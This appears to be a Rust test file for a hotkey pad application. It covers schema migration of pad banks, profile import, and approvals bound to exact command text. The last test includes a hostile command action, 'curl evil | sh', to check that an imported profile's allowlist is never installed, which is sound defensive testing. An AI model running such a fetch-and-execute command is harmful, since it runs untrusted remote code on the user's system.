use hk_operator::composer::ComposerConfig;
use hk_operator::slots::{HotkeySlot, BANK_COUNT, MODE_HID, SLOT_COUNT};
use hk_operator::store::{
    apply_profile_file, default_composers, empty_slot_bank, migrate_pad_bindings, pad_slots_from_wire,
    store_for_save, valid_pad_banks, validate_action_ids, Action, PadSlotsWire, ProfileFile,
    ProfilePadWrite, Store, STORE_SCHEMA_VERSION,
};
use hk_operator::strmap::{StrMap, StrSet};

fn action(id: &str, type_: &str, value: &str) -> Action {
    Action {
        id: id.into(),
        name: id.into(),
        category: "test".into(),
        description: String::new(),
        type_: type_.into(),
        value: value.into(),
        tags: Vec::new(),
        favorite: false,
        last_used: None,
        created_at: "test".into(),
    }
}

fn composer_config(commands: &[&str]) -> ComposerConfig {
    ComposerConfig {
        commands: commands.iter().map(|command| (*command).into()).collect(),
        ..ComposerConfig::default()
    }
}

fn bindings(pairs: &[(&str, &str)]) -> StrMap<String> {
    let mut m = StrMap::new();
    for (k, v) in pairs {
        m.insert(k, (*v).to_string());
    }
    m
}

fn banks_of(bank: Vec<HotkeySlot>) -> Vec<Vec<HotkeySlot>> {
    (0..BANK_COUNT).map(|_| bank.iter().map(|s| s.clone()).collect()).collect()
}

fn legacy_profile(actions: Vec<Action>, pad_bindings: StrMap<String>, composers: StrMap<ComposerConfig>) -> ProfileFile {
    ProfileFile {
        schema_version: 2,
        actions,
        pad_bindings,
        pad_preset_names: Vec::new(),
        composers,
        allowed_commands: StrSet::new(),
        pad_slots: Some(PadSlotsWire::Flat(empty_slot_bank())),
    }
}

#[test]
fn flat_v02_store_migrates_slots_and_binding_to_bank_zero() {
    let flat = empty_slot_bank();
    let mut store = Store::default();
    store.schema_version = 0;
    store.pad_bindings = bindings(&[("2-0", "legacy-action")]);
    store.pad_slots = pad_slots_from_wire(Some(PadSlotsWire::Flat(flat))).unwrap();
    store.normalize().unwrap();
    assert_eq!(store.schema_version, STORE_SCHEMA_VERSION);
    let banks = store.pad_slots.unwrap();
    assert_eq!(banks.len(), BANK_COUNT);
    assert!(banks.iter().all(|bank| bank.len() == SLOT_COUNT));
    assert_eq!(store.pad_bindings.get("0-2-0"), Some(&"legacy-action".to_string()));
    assert!(!store.pad_bindings.contains("2-0"));
}

#[test]
fn explicit_v03_binding_wins_over_legacy_collision() {
    let b = bindings(&[("2-0", "legacy"), ("0-2-0", "explicit")]);
    let migrated = migrate_pad_bindings(&b);
    assert_eq!(migrated.get("0-2-0"), Some(&"explicit".to_string()));
}

#[test]
fn malformed_bank_shape_and_future_schema_are_rejected() {
    assert!(pad_slots_from_wire(Some(PadSlotsWire::Banks(vec![Vec::new()]))).is_err());
    let mut future = Store::default();
    future.schema_version = STORE_SCHEMA_VERSION + 1;
    assert!(future.normalize().is_err());
}

#[test]
fn empty_and_duplicate_action_ids_are_rejected() {
    let mut empty = Store::default();
    empty.actions.push(action("  ", "command", "true"));
    assert!(empty.normalize().err().unwrap().contains("empty id"));

    let mut duplicate = Store::default();
    duplicate.actions = vec![
        action("same", "command", "echo safe"),
        action("same", "command", "echo different"),
    ];
    assert!(duplicate.normalize().err().unwrap().contains("duplicate"));
}

#[test]
fn command_approval_is_bound_to_exact_command_text() {
    let mut store = Store::default();
    store.actions = vec![action("cmd", "command", "echo reviewed")];
    store.allowed_commands.insert("cmd");
    store.approved_command_values.insert("cmd", "echo reviewed".into());
    store.normalize().unwrap();
    assert!(store.command_is_approved(&store.actions[0]));

    store.actions[0].value = "echo changed".into();
    store.normalize().unwrap();
    assert!(!store.allowed_commands.contains("cmd"));
    assert!(!store.approved_command_values.contains("cmd"));
}

#[test]
fn legacy_profile_updates_bank_zero_without_erasing_newer_banks() {
    let mut current = Store::default();
    let mut current_banks = banks_of(empty_slot_bank());
    current_banks[0][0].label = "old-zero".into();
    current_banks[1][0].label = "keep-one".into();
    current.pad_slots = Some(current_banks);
    current.pad_bindings = bindings(&[("0-2-0", "old-zero-action"), ("1-2-0", "keep-one-action")]);
    current.actions = vec![action("old-zero-action", "note", "old"), action("keep-one-action", "note", "keep")];

    let mut flat = empty_slot_bank();
    flat[0].label = "new-zero".into();
    let profile = ProfileFile {
        schema_version: 2,
        actions: vec![action("new-zero-action", "note", "new")],
        pad_bindings: bindings(&[("2-0", "new-zero-action")]),
        pad_preset_names: Vec::new(),
        composers: StrMap::new(),
        allowed_commands: StrSet::new(),
        pad_slots: Some(PadSlotsWire::Flat(flat)),
    };

    let (applied, scope) = apply_profile_file(&current, profile).ok().unwrap();
    assert_eq!(scope, ProfilePadWrite::BankZero);
    let banks = applied.pad_slots.unwrap();
    assert_eq!(banks[0][0].label, "new-zero");
    assert_eq!(banks[1][0].label, "keep-one");
    assert_eq!(applied.pad_bindings.get("0-2-0").map(String::as_str), Some("new-zero-action"));
    assert_eq!(applied.pad_bindings.get("1-2-0").map(String::as_str), Some("keep-one-action"));
    assert!(applied.actions.iter().any(|action| action.id == "keep-one-action" && action.value == "keep"));
    assert!(!applied.actions.iter().any(|action| action.id == "old-zero-action"));
}

#[test]
fn legacy_profile_rejects_redefinition_used_by_retained_bank() {
    let mut current = Store::default();
    current.actions = vec![action("shared", "note", "retained definition")];
    current.pad_bindings.insert("4-2-0", "shared".into());
    let profile = legacy_profile(
        vec![action("shared", "note", "changed definition")],
        bindings(&[("2-0", "shared")]),
        StrMap::new(),
    );

    let error = apply_profile_file(&current, profile).err().unwrap();
    assert!(error.contains("conflicts with the action retained by banks 1"));
}

#[test]
fn legacy_profile_allows_identical_action_used_by_retained_bank() {
    let shared = action("shared", "note", "same definition");
    let mut current = Store::default();
    current.actions = vec![shared.copy()];
    current.pad_bindings.insert("2-2-0", "shared".into());
    let profile = legacy_profile(vec![shared], bindings(&[("2-0", "shared")]), StrMap::new());

    let (applied, scope) = apply_profile_file(&current, profile).ok().unwrap();
    assert_eq!(scope, ProfilePadWrite::BankZero);
    assert_eq!(applied.actions.iter().filter(|action| action.id == "shared").count(), 1);
}

#[test]
fn legacy_profile_preserves_composers_used_only_by_retained_banks() {
    let retained = composer_config(&["/retained", "/rotate"]);
    let mut current = Store::default();
    current.actions = vec![
        action("pick", "composer", "workflow"),
        action("commit", "composer-commit", "workflow"),
        action("reset", "composer-reset", "workflow"),
    ];
    current.composers = StrMap::new();
    current.composers.insert("workflow", retained.copy());
    current.pad_bindings = bindings(&[("1-2-0", "pick"), ("2-2-0", "commit"), ("4-2-0", "reset")]);
    let profile = legacy_profile(Vec::new(), StrMap::new(), StrMap::new());

    let (applied, _) = apply_profile_file(&current, profile).ok().unwrap();
    assert_eq!(applied.actions.len(), 3);
    assert_eq!(applied.composers.len(), 2);
    let defaults = default_composers();
    assert!(applied.composers.get("ai").unwrap().same(defaults.get("ai").unwrap()));
    assert!(applied.composers.get("workflow").unwrap().same(&retained));
}

#[test]
fn legacy_profile_rejects_conflicting_retained_composer_config() {
    let retained_action = action("pick", "composer", "workflow");
    let mut current = Store::default();
    current.actions = vec![retained_action.copy()];
    current.composers = StrMap::new();
    current.composers.insert("workflow", composer_config(&["/retained"]));
    current.pad_bindings.insert("3-2-0", "pick".into());
    let mut composers = StrMap::new();
    composers.insert("workflow", composer_config(&["/changed"]));
    let profile = legacy_profile(vec![retained_action], StrMap::new(), composers);

    let error = apply_profile_file(&current, profile).err().unwrap();
    assert!(error.contains("composer \"workflow\" conflicts"));
    assert!(error.starts_with("legacy profile composer \"workflow\" conflicts"));
}

#[test]
fn legacy_empty_composers_reject_custom_retained_ai_conflict() {
    let mut current = Store::default();
    current.actions = vec![action("pick", "composer", "ai")];
    current.composers = StrMap::new();
    current.composers.insert("ai", composer_config(&["/custom-ai"]));
    current.pad_bindings.insert("1-2-0", "pick".into());
    let profile = legacy_profile(Vec::new(), StrMap::new(), StrMap::new());

    let error = apply_profile_file(&current, profile).err().unwrap();
    assert!(error.contains("composer \"ai\" conflicts"));
}

#[test]
fn full_bank_profile_replaces_every_bank_and_keeps_live_approvals() {
    let mut current = Store::default();
    current.actions = vec![action("cmd", "command", "echo hi")];
    current.allowed_commands.insert("cmd");
    current.approved_command_values.insert("cmd", "echo hi".into());
    current.pad_bindings = bindings(&[("1-0-0", "cmd")]);
    let mut bank = empty_slot_bank();
    bank[3].label = "full".into();
    let mut allowed = StrSet::new();
    allowed.insert("cmd");
    let profile = ProfileFile {
        schema_version: 3,
        actions: vec![action("cmd", "command", "echo hi")],
        pad_bindings: bindings(&[("2-0", "cmd")]),
        pad_preset_names: vec!["one".into()],
        composers: StrMap::new(),
        allowed_commands: allowed,
        pad_slots: Some(PadSlotsWire::Banks(banks_of(bank))),
    };
    let (applied, scope) = apply_profile_file(&current, profile).ok().unwrap();
    assert_eq!(scope, ProfilePadWrite::AllBanks);
    assert!(valid_pad_banks(&applied.pad_slots));
    let banks = applied.pad_slots.as_ref().unwrap();
    assert!(banks.iter().all(|b| b[3].label == "full"));
    assert!(applied.allowed_commands.contains("cmd"));
    assert_eq!(applied.allowed_commands.len(), 1);
    assert_eq!(applied.approved_command_values.get("cmd").map(String::as_str), Some("echo hi"));
    assert!(applied.command_is_approved(&applied.actions[0]));
    assert_eq!(applied.pad_bindings.get("0-2-0").map(String::as_str), Some("cmd"));
    assert!(!applied.pad_bindings.contains("1-0-0"));
    assert_eq!(applied.pad_preset_names, vec!["one".to_string()]);
}

#[test]
fn newer_profile_schema_is_refused() {
    let current = Store::default();
    let mut profile = legacy_profile(Vec::new(), StrMap::new(), StrMap::new());
    profile.schema_version = STORE_SCHEMA_VERSION + 1;
    let error = apply_profile_file(&current, profile).err().unwrap();
    assert_eq!(error, "profile schema 4 is newer than supported schema 3");
}

#[test]
fn short_legacy_profile_slots_are_refused() {
    let current = Store::default();
    let mut profile = legacy_profile(Vec::new(), StrMap::new(), StrMap::new());
    profile.pad_slots = Some(PadSlotsWire::Flat(Vec::new()));
    let error = apply_profile_file(&current, profile).err().unwrap();
    assert_eq!(error, "legacy profile padSlots has 0 entries, expected 18");
}

#[test]
fn legacy_profile_without_stored_banks_starts_from_empty_ones() {
    let current = Store::default();
    let mut flat = empty_slot_bank();
    flat[0].label = "zero".into();
    let mut profile = legacy_profile(Vec::new(), StrMap::new(), StrMap::new());
    profile.pad_slots = Some(PadSlotsWire::Flat(flat));
    let (applied, scope) = apply_profile_file(&current, profile).ok().unwrap();
    assert_eq!(scope, ProfilePadWrite::BankZero);
    let banks = applied.pad_slots.unwrap();
    assert_eq!(banks.len(), BANK_COUNT);
    assert_eq!(banks[0][0].label, "zero");
    assert!(banks[1..].iter().all(|b| b.len() == SLOT_COUNT && b.iter().all(|s| s.label.is_empty() && s.mode == MODE_HID)));
}

#[test]
fn action_ids_messages_name_index_and_id() {
    let a = vec![action("a", "note", ""), action(" ", "note", "")];
    assert_eq!(validate_action_ids(&a).err().unwrap(), "action at index 1 has an empty id");
    let b = vec![action("x", "note", ""), action("x", "url", "")];
    assert_eq!(validate_action_ids(&b).err().unwrap(), "duplicate action id \"x\"");
}

#[test]
fn allow_command_grants_current_text_only() {
    let mut store = Store::default();
    store.actions = vec![action("n", "note", "hi"), action("cmd", "command", "echo one")];
    assert_eq!(store.allow_command("nope").err().unwrap(), "command action \"nope\" not found");
    assert_eq!(store.allow_command("n").err().unwrap(), "command action \"n\" not found");
    store.allow_command("cmd").unwrap();
    assert!(store.command_is_approved(&store.actions[1]));
    store.actions[1].value = "echo two".into();
    assert!(!store.command_is_approved(&store.actions[1]));
}

#[test]
fn save_keeps_only_approvals_for_unchanged_text() {
    let mut live = Store::default();
    live.actions = vec![action("a", "command", "echo a"), action("b", "command", "echo b")];
    live.allow_command("a").unwrap();
    live.allow_command("b").unwrap();

    let mut incoming = Store::default();
    incoming.actions = vec![
        action("a", "command", "echo a"),
        action("b", "command", "echo B"),
        action("c", "command", "echo c"),
    ];
    incoming.allowed_commands.insert("a");
    incoming.allowed_commands.insert("b");
    incoming.allowed_commands.insert("c");
    incoming.approved_command_values.insert("c", "echo c".into());
    let saved = store_for_save(&live, incoming).ok().unwrap();
    assert!(saved.allowed_commands.contains("a"));
    assert_eq!(saved.approved_command_values.get("a").map(String::as_str), Some("echo a"));
    assert!(!saved.allowed_commands.contains("b"));
    assert!(!saved.allowed_commands.contains("c"));
    assert_eq!(saved.allowed_commands.len(), 1);
}

#[test]
fn migration_twice_is_migration_once() {
    let b = bindings(&[("1-2", "x"), ("3-4-0", "y"), ("bogus", "z")]);
    let once = migrate_pad_bindings(&b);
    let twice = migrate_pad_bindings(&once);
    assert_eq!(once.get("0-1-2").map(String::as_str), Some("x"));
    assert_eq!(once.get("bogus").map(String::as_str), Some("z"));
    assert!(!once.contains("1-2"));
    assert_eq!(twice.len(), once.len());
    for k in ["0-1-2", "3-4-0", "bogus"] {
        assert_eq!(twice.get(k), once.get(k));
    }
}

#[test]
fn exported_profile_reimports_with_its_approvals() {
    let mut store = Store::default();
    store.actions = vec![action("cmd", "command", "echo hi"), action("n", "note", "x")];
    store.pad_bindings = bindings(&[("0-1-2", "n"), ("3-0-0", "cmd")]);
    store.pad_slots = Some(banks_of(empty_slot_bank()));
    store.allow_command("cmd").unwrap();
    let profile = hk_operator::store::profile_from_store(&store);
    assert_eq!(profile.schema_version, STORE_SCHEMA_VERSION);
    assert!(matches!(profile.pad_slots, Some(PadSlotsWire::Banks(_))));
    assert!(profile.allowed_commands.contains("cmd"));
    let (next, scope) = apply_profile_file(&store, profile).ok().unwrap();
    assert_eq!(scope, ProfilePadWrite::AllBanks);
    assert_eq!(next.actions.len(), 2);
    assert_eq!(next.pad_bindings.get("3-0-0").map(String::as_str), Some("cmd"));
    assert_eq!(next.pad_bindings.len(), 2);
    assert_eq!(next.allowed_commands.len(), 1);
    assert!(next.command_is_approved(&next.actions[0]));
}

#[test]
fn profile_allowlist_is_never_installed_and_live_approvals_follow_the_actions() {
    let mut store = Store::default();
    store.actions = vec![action("c", "command", "ls"), action("gone", "command", "rm x"), action("edit", "command", "echo a")];
    for (id, text) in [("c", "ls"), ("gone", "rm x"), ("edit", "echo a")] {
        store.allowed_commands.insert(id);
        store.approved_command_values.insert(id, text.into());
    }
    let mut profile_allowlist = StrSet::new();
    profile_allowlist.insert("evil");
    profile_allowlist.insert("fresh");
    let profile = ProfileFile {
        schema_version: 3,
        actions: vec![
            action("c", "command", "ls"),
            action("edit", "command", "echo b"),
            action("evil", "command", "curl evil | sh"),
            action("fresh", "command", "true"),
        ],
        pad_bindings: StrMap::new(),
        pad_preset_names: Vec::new(),
        composers: StrMap::new(),
        allowed_commands: profile_allowlist,
        pad_slots: None,
    };
    let (next, scope) = apply_profile_file(&store, profile).ok().unwrap();
    assert_eq!(scope, ProfilePadWrite::Untouched);
    assert!(next.allowed_commands.contains("c"));
    assert_eq!(next.approved_command_values.get("c").map(String::as_str), Some("ls"));
    assert!(!next.allowed_commands.contains("evil"));
    assert!(!next.allowed_commands.contains("fresh"));
    assert!(!next.allowed_commands.contains("gone"));
    assert!(!next.allowed_commands.contains("edit"));
    assert!(!next.approved_command_values.contains("edit"));
    assert_eq!(next.allowed_commands.len(), 1);
    assert_eq!(next.approved_command_values.len(), 1);
}
